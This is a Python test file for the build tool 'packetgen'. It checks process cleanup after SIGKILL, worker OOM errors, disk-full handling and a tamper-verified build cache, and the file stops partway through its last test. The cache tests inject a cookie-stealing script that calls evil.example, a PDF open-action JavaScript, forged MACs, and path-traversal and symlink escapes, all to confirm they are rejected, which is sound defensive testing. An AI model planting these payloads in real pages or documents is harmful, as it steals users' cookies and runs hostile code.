"""Untrusted input, round two: processes that outlive packetgen, workers the
system kills, a build cache that lies, and a disk that fills up.

Real processes, real files, real file systems: no mocks. Processes started by a
test carry a unique environment variable, so "nothing of ours is left" is
checked by scanning /proc for it, whatever re-parenting did to the process tree.
"""

from __future__ import annotations

import contextlib
import hashlib
import hmac
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from packetgen.build.pipeline import BuildResult
from packetgen.support._atomic import Staging

from . import _cases
from .conftest import MINIMAL, bounded, temporaries, tree

TAG = "PACKETGEN_TEST_TAG"
HAS_PROC = Path("/proc/self/environ").exists()
ROOT_TMPFS = os.geteuid() == 0 and shutil.which("unshare") is not None
PREVIOUS = {
    "one.pdf": b"%PDF previous binder",
    "one.html": b"<p>previous page</p>",
    "packet.pdf": b"%PDF previous book",
}
STOPPED = (
    "was stopped by the system, probably for lack of memory; earlier outputs are unchanged."
    " Free some memory or lay out fewer in-services at once (-j 1), then build again"
)


# ---------------------------------------------------------------- helpers


def _spec(folder: Path, inservices: dict[str, int]) -> Path:
    """A packet with ``items`` links per in-service (every link has a QR code: slow to lay out)."""
    lines = ["title: Robustness\ninservices:\n"]
    for ident, items in inservices.items():
        lines.append(f"  - id: {ident}\n    title: Part {ident}\n")
        if items:
            lines.append("    items:\n")
        for n in range(items):
            lines.append(
                f"      - {{kind: link, title: Resource {n}, url: 'https://example.org/{ident}/{n}',"
                f" description: 'A resource worth reading, number {n}, with some text.'}}\n"
            )
    spec = folder / "packet.yaml"
    spec.write_text("".join(lines))
    return spec


def _previous(out: Path) -> dict[str, bytes | None]:
    out.mkdir(parents=True, exist_ok=True)
    for name, data in PREVIOUS.items():
        (out / name).write_bytes(data)
    return tree(out)


def _env(tag: str, xdg: Path) -> dict[str, str]:
    return dict(os.environ, **{TAG: tag, "XDG_CACHE_HOME": str(xdg)})


def _tagged(tag: str) -> list[int]:
    """Live processes (not zombies) started with ``TAG=tag`` in their environment."""
    marker = f"{TAG}={tag}".encode()
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with contextlib.suppress(OSError):
            # A zombie's environment reads as empty: it is gone but for its exit status.
            if marker in (entry / "environ").read_bytes().split(b"\0"):
                found.append(int(entry.name))
    return found


def _wait_until_gone(tag: str, seconds: float) -> list[int]:
    deadline = time.monotonic() + seconds
    while (left := _tagged(tag)) and time.monotonic() < deadline:
        time.sleep(0.01)
    return left


def _kill_tagged(tag: str) -> None:
    """Safety net for a failing test: nothing it started may outlive it."""
    for pid in _tagged(tag):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def _descendants(pid: int) -> list[int]:
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError, IndexError, ValueError):
                stat_line = (entry / "stat").read_text()
                parents[int(entry.name)] = int(stat_line.rsplit(")", 1)[1].split()[1])
    found: list[int] = []
    frontier = [pid]
    while frontier:
        current = frontier.pop()
        children = [child for child, parent in parents.items() if parent == current]
        found.extend(children)
        frontier.extend(children)
    return found


def _spawned(pid: int) -> list[int]:
    """Worker processes below ``pid``: multiprocessing ``spawn`` processes, and
    processes forked by the warm server (not the server itself, nor the
    resource tracker)."""
    found = []
    for child in _descendants(pid):
        with contextlib.suppress(OSError, IndexError, ValueError):
            command = Path(f"/proc/{child}/cmdline").read_bytes()
            if b"spawn_main" in command:
                found.append(child)
            elif b"multiprocessing.forkserver" in command:
                # A forked worker has the server's command line, and the server as parent.
                parent = int(Path(f"/proc/{child}/stat").read_text().rsplit(")", 1)[1].split()[1])
                if b"multiprocessing.forkserver" in Path(f"/proc/{parent}/cmdline").read_bytes():
                    found.append(child)
    return found


def _wait_for_spawned(process: subprocess.Popen[str], count: int) -> list[int]:
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        found = _spawned(process.pid)
        if len(found) >= count:
            return found
        assert process.poll() is None, process.communicate()
        time.sleep(0.1)
    pytest.fail(f"the build never started {count} worker processes")


def _cpu(pid: int) -> int:
    """User and system time of ``pid`` in clock ticks."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])


def _wait_for_cpu(pid: int, seconds: float) -> None:
    """Until ``pid`` has used ``seconds`` of CPU time (it is laying out pages)."""
    ticks = seconds * os.sysconf("SC_CLK_TCK")
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        if _cpu(pid) >= ticks:
            return
        time.sleep(0.1)
    pytest.fail(f"worker {pid} never got to work")


def _files(folder: Path) -> dict[str, tuple[int, int]]:
    """Every file directly in ``folder``: (size, mtime in ns); writes show as changes."""
    found = {}
    for path in folder.iterdir():
        with contextlib.suppress(FileNotFoundError):
            info = path.lstat()
            found[path.name] = (info.st_size, info.st_mtime_ns)
    return found


@contextlib.contextmanager
def _started(args: list[str], *, cwd: Path, tag: str, xdg: Path) -> Iterator[subprocess.Popen[str]]:
    process = subprocess.Popen(
        args,
        cwd=cwd,
        env=_env(tag, xdg),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        _kill_tagged(tag)
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.communicate(timeout=10)


# ---------------------------------------------------------------- 1. no orphans

_ISOLATED_BUILD = (
    "import sys, packetgen\n"
    "packetgen.build(sys.argv[1], sys.argv[2], jobs=2, cache=False,"
    " timeout=600, max_memory=4 * 1024 ** 3)\n"
)


@pytest.mark.slow
@pytest.mark.skipif(not HAS_PROC, reason="finds processes through /proc")
@pytest.mark.parametrize(
    ("command", "workers"),
    [
        (
            [
                "-m",
                "packetgen",
                "build",
                "packet/packet.yaml",
                "-o",
                "out",
                "--no-cache",
                "-j",
                "2",
            ],
            1,  # -j 2: packetgen itself and one worker
        ),
        # build(timeout=…): the isolated worker (its own process group) and its pool worker.
        (["-c", _ISOLATED_BUILD, "packet/packet.yaml", "out"], 2),
    ],
    ids=["orphans-cli-j2", "orphans-isolated-j2"],
)
def test_sigkill_of_a_parallel_build_leaves_no_process_and_no_new_file(
    command: list[str], workers: int, packet_dir: Path, tmp_path: Path
) -> None:
    _spec(packet_dir, {f"part-{n}": 150 for n in range(4)})
    out = tmp_path / "out"
    before = _previous(out)
    tag = uuid.uuid4().hex
    with _started([sys.executable, *command], cwd=tmp_path, tag=tag, xdg=tmp_path / "xdg") as p:
        _wait_for_spawned(p, workers)
        time.sleep(2)  # the workers are laying out pages
        assert p.poll() is None, "the build finished before it could be killed"
        p.kill()  # SIGKILL to packetgen alone, as the OOM killer would
        killed = time.monotonic()
        p.wait()
        at_death = set(_files(out))
        left = _wait_until_gone(tag, 5)
        gone = time.monotonic() - killed
        assert left == [], f"still running 5 s after packetgen was killed: {left}"
        # Nothing holds packetgen's stdout and stderr any more: they reach end of file.
        p.communicate(timeout=5)
    print(f"last process gone {gone:.3f} s after SIGKILL")  # a measurement, shown with -s
    settled = _files(out)
    assert set(settled) <= at_death, "a file appeared in the output folder after packetgen died"
    time.sleep(3)
    assert _files(out) == settled, "something wrote into the output folder after packetgen died"
    outputs = {name: data for name, data in tree(out).items() if not name.endswith(".tmp")}
    assert outputs == before


@pytest.mark.slow
def test_parallel_build_from_a_thread_that_is_not_the_main_one(
    xdg: Path, packet_dir: Path, tmp_path: Path
) -> None:
    """PR_SET_PDEATHSIG fires when the *thread* that started a worker ends: the
    pool starts its workers from the thread running the build, which outlives
    them, so a build run from a service's request thread is not cut short."""
    import threading

    from packetgen.build.pipeline import build

    spec = _spec(packet_dir, {"one": 1, "two": 1})
    results: list[BuildResult] = []
    thread = threading.Thread(
        target=lambda: results.append(
            build(spec, tmp_path / "out", jobs=2, format="html", cache=False)
        )
    )
    thread.start()
    thread.join(300)
    assert [o.path.name for o in results[0].outputs] == ["one.html", "two.html"]


# ---------------------------------------------------------------- 2. a worker killed by the system


@pytest.mark.slow
@pytest.mark.skipif(not HAS_PROC, reason="finds processes through /proc")
def test_worker_killed_mid_build_is_a_clear_error(packet_dir: Path, tmp_path: Path) -> None:
    spec = _spec(packet_dir, {"heavy": 300, "light": 1})
    out = tmp_path / "out"
    before = _previous(out)
    tag = uuid.uuid4().hex
    args = [sys.executable, "-m", "packetgen", "build", str(spec), "-o", "out", "--no-cache"]
    args += ["-q", "-j", "2", "--format", "pdf", "--only", "heavy", "--only", "light"]
    with _started(args, cwd=tmp_path, tag=tag, xdg=tmp_path / "xdg") as process:
        # -j 2: packetgen lays out light.pdf itself beside one worker, which
        # takes the first job, heavy.pdf.
        (worker,) = _wait_for_spawned(process, 1)
        _wait_for_cpu(worker, 2.5)  # past its imports, laying out heavy.pdf
        os.kill(worker, signal.SIGKILL)  # what the OOM killer does
        _stdout, stderr = process.communicate(timeout=60)
        assert _wait_until_gone(tag, 5) == []
    assert process.returncode == 1, stderr
    assert "Traceback" not in stderr
    assert stderr == f"Error: the worker building heavy (heavy.pdf) {STOPPED}\n"
    assert tree(out) == before
    assert temporaries(out) == []


# ---------------------------------------------------------------- 3. a verified cache


def _key(xdg: Path) -> bytes:
    return (xdg / "packetgen" / "cache-key").read_bytes()


def _entry(out: Path, name: str) -> Path:
    """The cache entry whose stored output is byte-identical to ``out/name``."""
    data = (out / name).read_bytes()
    for output in (out / ".packetgen-cache").glob("*/*/output"):
        if output.read_bytes() == data:
            return output.parent
    raise AssertionError(f"no cache entry holds {name}")


def _record(entry: Path) -> tuple[bytes, bytes, bytes]:
    head, mac, body = entry.joinpath("record").read_bytes().split(b"\n", 2)
    return head, mac, body


def _sign(key: bytes, entry: Path, body: bytes, head: bytes | None = None) -> None:
    """Write a record for ``entry`` made with ``key``: what a forger with that key could do."""
    key_id = hmac.new(key, b"packetgen cache key id", "sha256").hexdigest()[:32].encode()
    mac = hmac.new(key, b"packetgen-cache 2\n" + entry.name.encode() + b"\n" + body, "sha256")
    head = head or b"packetgen-cache 2 " + key_id
    entry.joinpath("record").write_bytes(head + b"\n" + mac.hexdigest().encode() + b"\n" + body)


def _describe(data: bytes) -> bytes:
    return json.dumps(
        {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}, sort_keys=True
    ).encode()


def _retarget(entry: Path, data: bytes) -> bytes:
    """The entry's record body, describing ``data`` as its stored output."""
    body = json.loads(_record(entry)[2])
    body["files"]["output"] = json.loads(_describe(data))
    return json.dumps(body, sort_keys=True).encode()


SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def _tamper_html(entry: Path, how: str) -> None:
    stored = entry / "output"
    evil = stored.read_bytes().replace(b"</body>", SCRIPT + b"</body>")
    stored.write_bytes(evil)
    head, mac, _body = _record(entry)
    if how == "new-checksums-old-mac":
        entry.joinpath("record").write_bytes(head + b"\n" + mac + b"\n" + _retarget(entry, evil))
    elif how == "forged-mac-with-our-key-id":
        _sign(os.urandom(32), entry, _retarget(entry, evil), head=head)


def _html_build(spec: Path, out: Path, **options: Any) -> BuildResult:
    result: BuildResult = bounded(
        _cases.build, spec, out, seconds=120, cache=True, format="html", **options
    )
    return result


MISMATCH = "the cached copy of {} did not match its checksum and was rebuilt"


@pytest.fixture
def xdg(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private $XDG_CACHE_HOME, so that every test has its own cache key."""
    folder = tmp_path / "xdg"
    monkeypatch.setenv("XDG_CACHE_HOME", str(folder))
    return folder


@dataclass(frozen=True)
class Cached:
    """A copy of one cached HTML build of MINIMAL, and the key that made its cache."""

    spec: Path
    out: Path
    key: bytes
    clean: bytes
    """The bytes of one.html."""


@pytest.fixture(scope="module")
def cached_once(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """(XDG_CACHE_HOME, spec, out) of one cached build, made once for the tests to copy."""
    base = tmp_path_factory.mktemp("cached-once")
    spec = base / "packet" / "packet.yaml"
    spec.parent.mkdir()
    spec.write_text(MINIMAL)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CACHE_HOME", str(base / "xdg"))
        assert _html_build(spec, base / "out").warnings == []
    return base / "xdg", spec, base / "out"


@pytest.fixture
def cached(
    cached_once: tuple[Path, Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Cached:
    """A private copy of the cached build, built on with the key that made it."""
    xdg, spec, out = cached_once
    monkeypatch.setenv("XDG_CACHE_HOME", str(xdg))
    shutil.copytree(out, tmp_path / "out", symlinks=True)
    return Cached(spec, tmp_path / "out", _key(xdg), (out / "one.html").read_bytes())


@pytest.mark.parametrize(
    "how", ["output-only", "new-checksums-old-mac", "forged-mac-with-our-key-id"]
)
def test_tampered_cached_html_is_rebuilt_and_reported(how: str, cached: Cached) -> None:
    spec, out, clean = cached.spec, cached.out, cached.clean
    _tamper_html(_entry(out, "one.html"), how)
    # --strict does not fail: the outputs are right, the note is about this machine.
    second = _html_build(spec, out, strict=True)
    assert second.warnings == [MISMATCH.format("one.html")]
    assert [(o.path.name, o.cached) for o in second.outputs] == [("one.html", False)]
    assert (out / "one.html").read_bytes() == clean
    assert SCRIPT not in (out / "one.html").read_bytes()
    # The entry was written anew: the next build takes it, silently.
    third = _html_build(spec, out)
    assert third.warnings == []
    assert [o.cached for o in third.outputs] == [True]


def _with_open_action(data: bytes) -> bytes:
    """``data`` with a JavaScript action run when the PDF opens."""
    import io

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://evil.example/')"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = action
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.slow
def test_tampered_cached_binder_and_book_are_rebuilt_and_reported(
    xdg: Path, packet_dir: Path, tmp_path: Path
) -> None:
    spec = _spec(packet_dir, {"one": 2})
    out = tmp_path / "out"
    bounded(_cases.build, spec, out, seconds=300, cache=True, format="pdf")
    clean = {name: (out / name).read_bytes() for name in ("one.pdf", "packet.pdf")}
    for name in clean:
        entry = _entry(out, name)
        evil = _with_open_action((entry / "output").read_bytes())
        head, mac, _body = _record(entry)
        (entry / "output").write_bytes(evil)
        entry.joinpath("record").write_bytes(head + b"\n" + mac + b"\n" + _retarget(entry, evil))
    done = subprocess.run(
        [sys.executable, "-m", "packetgen", "build", str(spec), "-o", str(out), "--format", "pdf"],
        env=_env(uuid.uuid4().hex, xdg),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    warnings = [line for line in done.stderr.splitlines() if line.startswith("Warning:")]
    assert warnings == [
        f"Warning: {MISMATCH.format('one.pdf')}",
        f"Warning: {MISMATCH.format('packet.pdf')}",
    ]
    assert f"Wrote {out / 'one.pdf'} (4 pages)\n" in done.stdout
    assert "unchanged" not in done.stdout
    for name, data in clean.items():
        assert (out / name).read_bytes() == data
        assert b"/JavaScript" not in data
        assert b"/OpenAction" not in data


def test_a_cache_made_by_someone_else_is_not_used(
    xdg: Path, packet_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A packet shared with its out/ folder: the sender's cache does not verify here."""
    spec = packet_dir / "packet.yaml"
    spec.write_text(MINIMAL)
    theirs = tmp_path / "theirs"
    _html_build(spec, theirs)
    clean = (theirs / "one.html").read_bytes()
    # The sender (their own key, which the recipient never has) makes a cache
    # whose records are perfectly formed and whose output carries a script.
    entry = _entry(theirs, "one.html")
    evil = clean.replace(b"</body>", SCRIPT + b"</body>")
    (entry / "output").write_bytes(evil)
    _sign(_key(xdg), entry, _retarget(entry, evil))
    ours = tmp_path / "ours"
    shutil.copytree(theirs, ours)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "recipient-xdg"))
    result = _html_build(spec, ours)
    assert result.warnings == [
        f"the build cache in {ours / '.packetgen-cache'} was made by another user, on another"
        " computer or with a cache key since deleted, so it was not used; its outputs were"
        " laid out again"
    ]
    assert [o.cached for o in result.outputs] == [False]
    assert (ours / "one.html").read_bytes() == clean
    again = _html_build(spec, ours)
    assert again.warnings == []
    assert [o.cached for o in again.outputs] == [True]


# Each corruption gets the cache entry of one.html, a folder outside the cache
# (holding secret.html, a copy of one.html with a script) and the user's key;
# the flag says whether the build must report the entry as not matching.
Corruption = Callable[[Path, Path, bytes], None]
CORRUPTIONS: dict[str, tuple[Corruption, bool]] = {}


def _corruption(told: bool) -> Callable[[Corruption], Corruption]:
    def register(fn: Corruption) -> Corruption:
        CORRUPTIONS[fn.__name__.removeprefix("_").replace("_", "-")] = (fn, told)
        return fn

    return register


def _fifo(path: Path) -> None:
    path.unlink(missing_ok=True)
    os.mkfifo(path)


def _outside_copy(folder: Path, outside: Path) -> Path:
    """A verified copy of a cache folder outside the cache, for links to point at."""
    copy = outside / folder.name
    shutil.copytree(folder, copy)
    return copy


def _swap_for_link(folder: Path, target: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(target, target_is_directory=True)


def _body(entry: Path) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(_record(entry)[2])
    return body


def _signed_json(key: bytes, entry: Path, body: object) -> None:
    _sign(key, entry, json.dumps(body, sort_keys=True).encode())


@_corruption(told=True)
def _record_empty(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").write_bytes(b"")


@_corruption(told=True)
def _record_garbage(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").write_bytes(os.urandom(500))


@_corruption(told=True)
def _record_header_only(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").write_bytes(_record(entry)[0])


@_corruption(told=True)
def _record_huge(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").write_bytes(_record(entry)[0] + b"\n" + b"0" * (17 << 20))


@_corruption(told=False)
def _record_deleted(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").unlink()


@_corruption(told=True)
def _record_is_a_folder(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").unlink()
    (entry / "record").mkdir()


@_corruption(told=True)
def _record_is_a_fifo(entry: Path, outside: Path, key: bytes) -> None:
    _fifo(entry / "record")  # opening it for reading would block, were it opened that way


@_corruption(told=True)
def _record_links_outside(entry: Path, outside: Path, key: bytes) -> None:
    target = _outside_copy(entry, outside) / "record"
    (entry / "record").unlink()
    (entry / "record").symlink_to(target)


@_corruption(told=False)
def _record_of_another_format(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").write_bytes(b"packetgen-cache 9 future\n")


@_corruption(told=False)
def _old_meta_json_naming_a_file_outside(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "record").unlink()
    (entry / "meta.json").write_text(json.dumps({"files": [str(outside / "secret.html")]}))


@_corruption(told=True)
def _body_not_utf8_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    _sign(key, entry, b"\xff\xfe{")


@_corruption(told=True)
def _bad_json_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    _sign(key, entry, b'{"meta": {"pages": ')


@_corruption(told=True)
def _json_nesting_bomb_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    _sign(key, entry, b"[" * 200_000)


@_corruption(told=True)
def _missing_keys_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    _signed_json(key, entry, {"meta": {}})


@_corruption(told=True)
def _wrong_types_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    _signed_json(key, entry, {"meta": [], "files": {"output": "all of it"}})


@_corruption(told=True)
def _size_as_text_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    _signed_json(key, entry, {"meta": {}, "files": {"output": {"size": "1", "sha256": "0" * 64}}})


@_corruption(told=True)
def _absolute_path_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    secret = outside / "secret.html"
    files = {str(secret): json.loads(_describe(secret.read_bytes()))}
    _signed_json(key, entry, {"meta": _body(entry)["meta"], "files": files})


@_corruption(told=True)
def _dotdot_path_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    secret = outside / "secret.html"
    files = {"../../../outside/secret.html": json.loads(_describe(secret.read_bytes()))}
    _signed_json(key, entry, {"meta": _body(entry)["meta"], "files": files})


@_corruption(told=False)  # it verifies, but is not what packetgen writes: a plain miss
def _page_count_as_text_with_valid_mac(entry: Path, outside: Path, key: bytes) -> None:
    meta = {"pages": "many", "warnings": [1]}
    _signed_json(key, entry, {"meta": meta, "files": _body(entry)["files"]})


@_corruption(told=True)
def _output_deleted(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "output").unlink()


@_corruption(told=True)
def _output_truncated(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "output").write_bytes((entry / "output").read_bytes()[:100])


@_corruption(told=True)
def _output_links_outside(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "output").unlink()
    (entry / "output").symlink_to(outside / "secret.html")


@_corruption(told=True)
def _output_hard_link_outside(entry: Path, outside: Path, key: bytes) -> None:
    (entry / "output").unlink()
    os.link(outside / "secret.html", entry / "output")
    # Even recorded as exactly that file, it is refused: it has two names.
    _signed_json(key, entry, _retarget_body(entry, (outside / "secret.html").read_bytes()))


@_corruption(told=True)
def _output_is_a_fifo(entry: Path, outside: Path, key: bytes) -> None:
    _fifo(entry / "output")


@_corruption(told=True)
def _entry_links_outside(entry: Path, outside: Path, key: bytes) -> None:
    _swap_for_link(entry, _outside_copy(entry, outside))


@_corruption(told=True)
def _shard_links_outside(entry: Path, outside: Path, key: bytes) -> None:
    _swap_for_link(entry.parent, _outside_copy(entry.parent, outside))


@_corruption(told=False)  # one note for the whole cache instead (see the test)
def _cache_folder_links_outside(entry: Path, outside: Path, key: bytes) -> None:
    _swap_for_link(entry.parent.parent, _outside_copy(entry.parent.parent, outside))


def _retarget_body(entry: Path, data: bytes) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(_retarget(entry, data))
    return body


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links, FIFOs and hard links")
@pytest.mark.parametrize("case", list(CORRUPTIONS))
def test_malformed_cache_record_is_a_miss(case: str, cached: Cached, tmp_path: Path) -> None:
    spec, out, clean = cached.spec, cached.out, cached.clean
    outside = tmp_path / "outside"
    outside.mkdir()
    # What a record pointing out of the cache would bring in: it must never be read.
    secret = clean.replace(b"</body>", SCRIPT + b"</body>")
    (outside / "secret.html").write_bytes(secret)
    corrupt, told = CORRUPTIONS[case]
    corrupt(_entry(out, "one.html"), outside, cached.key)
    before_outside = tree(outside)

    result = _html_build(spec, out)

    assert (out / "one.html").read_bytes() == clean
    assert [o.cached for o in result.outputs] == [False]
    if case == "cache-folder-links-outside":
        assert result.warnings == [
            f"the build cache {out / '.packetgen-cache'} is not a folder (a symbolic link?),"
            " so it was not used"
        ]
    else:
        assert result.warnings == ([MISMATCH.format("one.html")] if told else [])
    # Nothing outside the cache folder was written (or replaced through a link).
    assert tree(outside) == before_outside
    assert temporaries(out) == []
    if case != "cache-folder-links-outside":
        # The entry was rebuilt as a real folder, and verifies from now on.
        again = _html_build(spec, out)
        assert (again.warnings, [o.cached for o in again.outputs]) == ([], [True])


def test_cached_handout_scan_is_verified(xdg: Path, packet_dir: Path, tmp_path: Path) -> None:
    """A forged scan record would put the attacker's URLs into the QR codes."""
    from .make_broken_pdfs import _one_page, raw_pdf

    (packet_dir / "faq.pdf").write_bytes(raw_pdf(_one_page()))
    spec = packet_dir / "packet.yaml"
    spec.write_text(MINIMAL + "    items:\n      - {kind: handout, title: FAQ, file: faq.pdf}\n")
    out = tmp_path / "out"
    first = _html_build(spec, out)
    clean = (out / "one.html").read_bytes()
    scans = [
        record.parent
        for record in (out / ".packetgen-cache").glob("*/*/record")
        if b'"value"' in record.read_bytes()
    ]
    assert len(scans) == 1
    head, mac, body = _record(scans[0])
    forged = json.loads(body)
    forged["meta"]["value"]["links"] = [[1, "https://evil.example/"]]
    scans[0].joinpath("record").write_bytes(
        head + b"\n" + mac + b"\n" + json.dumps(forged, sort_keys=True).encode()
    )
    second = _html_build(spec, out)
    assert second.warnings == [
        *first.warnings,
        MISMATCH.format("the links found in the handouts of one"),
    ]
    assert (out / "one.html").read_bytes() == clean
    assert b"evil.example" not in clean


def test_cache_key_is_private_and_kept(xdg: Path, packet_dir: Path, tmp_path: Path) -> None:
    spec = packet_dir / "packet.yaml"
    spec.write_text(MINIMAL)
    _html_build(spec, tmp_path / "out")
    key_file = xdg / "packetgen" / "cache-key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(key_file.parent.stat().st_mode) == 0o700
    key = key_file.read_bytes()
    assert len(key) == 32
    assert [o.cached for o in _html_build(spec, tmp_path / "out").outputs] == [True]
    assert key_file.read_bytes() == key
    assert list(key_file.parent.iterdir()) == [key_file]


def _key_not_a_folder(xdg: Path) -> None:
    xdg.write_text("not a folder")


def _key_shared(xdg: Path) -> None:
    key_file = xdg / "packetgen" / "cache-key"
    key_file.parent.mkdir(parents=True)
    key_file.write_bytes(os.urandom(32))
    key_file.chmod(0o644)


def _key_link(xdg: Path) -> None:
    key_file = xdg / "packetgen" / "cache-key"
    key_file.parent.mkdir(parents=True)
    (xdg / "elsewhere").write_bytes(os.urandom(32))
    (xdg / "elsewhere").chmod(0o600)
    key_file.symlink_to(xdg / "elsewhere")


def _key_short(xdg: Path) -> None:
    key_file = xdg / "packetgen" / "cache-key"
    key_file.parent.mkdir(parents=True)
    key_file.write_bytes(b"123")
    key_file.chmod(0o600)


@pytest.mark.skipif(sys.platform == "win32", reason="file modes and symbolic links")
@pytest.mark.parametrize(
    ("setup", "note"),
    [
        (_key_not_a_folder, "cannot read its key {key}: Not a directory"),
        (
            _key_shared,
            "its key {key} can be read or changed by other users; delete it and build again"
            " to make a new one",
        ),
        (
            _key_link,
            "its key {key} is a symbolic link; delete it and build again to make a new one",
        ),
        (_key_short, "its key {key} is damaged; delete it and build again to make a new one"),
    ],
    ids=["key-folder-is-a-file", "key-readable-by-others", "key-is-a-link", "key-damaged"],
)
def test_without_a_usable_key_the_cache_is_off(
    setup: Callable[[Path], None], note: str, xdg: Path, packet_dir: Path, tmp_path: Path
) -> None:
    setup(xdg)
    before = tree(xdg) if xdg.is_dir() else None
    spec = packet_dir / "packet.yaml"
    spec.write_text(MINIMAL)
    out = tmp_path / "out"
    result = _html_build(spec, out)
    key = xdg / "packetgen" / "cache-key"
    assert result.warnings == [f"the build cache is off: {note.format(key=key)}"]
    assert (out / "one.html").exists()
    assert not (out / ".packetgen-cache").exists()
    if before is not None:
        assert tree(xdg) == before  # a key it does not trust is left for the user to remove


# ---------------------------------------------------------------- 4. the disk fills up

PAGE = 4096


def _pages(size: int) -> int:
    return -(-size // PAGE)


def _on_tmpfs(work: Path, size: int, command: str, *args: str) -> subprocess.CompletedProcess[str]:
    """Run ``command`` (sh) in ``work`` with ``work/out`` a tmpfs of ``size`` bytes holding
    ``work/previous``; what ``out`` held afterwards is copied to ``work/after``."""
    (work / "out").mkdir(exist_ok=True)
    (work / "after").mkdir()
    script = (
        f"mount -t tmpfs -o size={size} tmpfs out && cp -a previous/. out/ || exit 99; "
        f'{command}; rc=$?; cp -a out/. after/; exit "$rc"'
    )
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", script, sys.executable, *args],
        cwd=work,
        capture_output=True,
        text=True,
        timeout=300,
    )
    if done.returncode == 99:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    return done


@pytest.mark.slow
@pytest.mark.skipif(not ROOT_TMPFS, reason="mounting a small tmpfs needs root and unshare")
def test_disk_full_while_writing_packet_pdf(packet_dir: Path, tmp_path: Path) -> None:
    # Eight links make a packet.pdf of about 40 disk pages (30 made 128 and took
    # four times as long to lay out, twice): enough to fill the disk halfway.
    spec = _spec(packet_dir, {"one": 8})
    reference = tmp_path / "reference"
    subprocess.run(
        [sys.executable, "-m", "packetgen", "build", str(spec), "-o", str(reference), "--no-cache"],
        check=True,
        capture_output=True,
        timeout=300,
    )
    binder = _pages((reference / "one.pdf").stat().st_size)
    book = _pages((reference / "packet.pdf").stat().st_size)
    assert book >= 8, "packet.pdf is too small to fill the disk halfway through it"
    before = _previous(tmp_path / "previous")
    held = sum(_pages(len(data)) for data in PREVIOUS.values())
    # When packet.pdf is written the disk holds the previous outputs and the
    # staged binder (the book is made of it, nothing more is staged): leave
    # room for half of packet.pdf.
    size = (held + binder + 1 + book // 2) * PAGE
    command = '"$0" -m packetgen build "$1" -o out --no-cache -q -j 1'
    done = _on_tmpfs(tmp_path, size, command, str(spec))
    assert done.returncode == 1, done.stderr
    assert done.stderr == (
        "Error: the disk is full while writing out/packet.pdf; free some space and build again\n"
    )
    assert tree(tmp_path / "after") == before
    assert temporaries(tmp_path / "after") == []


_STAGED_WRITES = """
import sys
from pathlib import Path
from packetgen.support._atomic import Staging, write_bytes_atomic
from packetgen.errors import BuildError

data = b"%PDF-1.7 " + b"x" * 200_000
for how in ("staging", "raw", "atomic"):
    try:
        if how == "atomic":
            write_bytes_atomic(Path("out/one.pdf"), data)
            continue
        with Staging(Path("out")) as staging:
            target = staging.path_for("one-certificates.pdf")
            if how == "staging":
                staging.write_bytes(target, data)
            else:  # as certificates.py writes: Path.write_bytes on a staged path
                target.write_bytes(data)
            staging.commit()
    except BuildError as exc:
        print(exc)
"""


@pytest.mark.skipif(not ROOT_TMPFS, reason="mounting a small tmpfs needs root and unshare")
def test_disk_full_through_atomic_writes(tmp_path: Path) -> None:
